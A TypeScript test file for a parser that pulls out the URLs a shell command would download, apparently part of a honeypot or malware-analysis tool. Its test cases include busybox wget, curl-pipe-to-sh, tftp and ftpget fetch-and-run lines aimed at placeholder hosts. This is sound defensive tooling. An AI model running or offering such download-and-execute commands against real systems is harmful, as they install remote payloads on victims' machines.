import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { fetchedUrls } from './download-command.ts';

test('what a command line would fetch', () => {
  const cases: [string, string[]][] = [
    ['wget http://198.51.100.7/a.sh', ['http://198.51.100.7/a.sh']],
    ['curl -O http://198.51.100.7:8080/a?b=1 -o /tmp/a', ['http://198.51.100.7:8080/a?b=1']],
    ['curl example.com', ['http://example.com']],
    ['wget -q -O x.sh example.com/x', ['http://example.com/x']],
    ['wget -qO x.sh example.com/x', ['http://example.com/x']],
    ['curl --output x.sh --url=1 http://example.com/x > y.sh', ['http://example.com/x']],
    ['wget -O- http://example.com/x | sh', ['http://example.com/x']],
    ['wget http://example.com/a http://example.com/b', ['http://example.com/a', 'http://example.com/b']],
    [
      'wget "http://example.com/a?b=1&c=2"; wget http://example.com/a&',
      ['http://example.com/a?b=1&c=2', 'http://example.com/a'],
    ],
    ['cd /tmp || cd /;/bin/busybox wget http://198.51.100.7/m;sh m', ['http://198.51.100.7/m']],
    ['sudo /usr/bin/curl 198.51.100.7/a', ['http://198.51.100.7/a']],
    ['sh -c "cd /tmp; wget http://198.51.100.7/a; sh a"', ['http://198.51.100.7/a']],
    ['(wget http://198.51.100.7/a || curl http://198.51.100.7/a)', ['http://198.51.100.7/a']],
    [
      'x=`wget http://198.51.100.7/a`; y=$(curl http://198.51.100.7/b)',
      ['http://198.51.100.7/a', 'http://198.51.100.7/b'],
    ],
    ['tftp 198.51.100.7 -c get t1.sh', ['tftp://198.51.100.7/t1.sh']],
    ['tftp -r t2.sh -g 198.51.100.7', ['tftp://198.51.100.7/t2.sh']],
    ['busybox tftp -g -l /tmp/t -r t3 198.51.100.7 69', ['tftp://198.51.100.7/t3']],
    ['ftpget -v -u anonymous -p a -P 21 198.51.100.7 local.sh remote.sh', ['ftp://198.51.100.7/remote.sh']],
    ['ftpget 198.51.100.7 /a.sh', ['ftp://198.51.100.7/a.sh']],
  ];
  for (const [line, expected] of cases) assert.deepEqual(fetchedUrls(line), expected, line);
});

test('what is no download gives nothing', () => {
  for (const line of [
    '',
    'ls -la',
    'wget',
    'wget --help',
    'curl $SERVER/x',
    'wget http://$HOST/x',
    'echo http://example.com/x',
    'cat wget.log example.com',
    'tftp',
    'tftp localhost',
    'curl -X POST -d example.org',
    'wget a b c',
  ]) {
    assert.deepEqual(fetchedUrls(line), [], line);
  }
});

test('a hostile line costs little and yields little', { timeout: 5_000 }, () => {
  const many = Array.from({ length: 5_000 }, (_, index) => `wget a${index}.example.com`).join(';');
  assert.equal(fetchedUrls(many).length, 32);
  for (const part of ['wget ', 'a.', "'", '"', '-', 'wget "wget ', '(', 'http://', '\\']) {
    fetchedUrls(`wget ${part.repeat(500_000)}`);
  }
  fc.assert(
    fc.property(fc.string(), (text) => {
      for (const url of fetchedUrls(`wget ${text}`)) assert.match(url, /^[a-z]+:\/\/\S+$/i);
    }),
  );
});
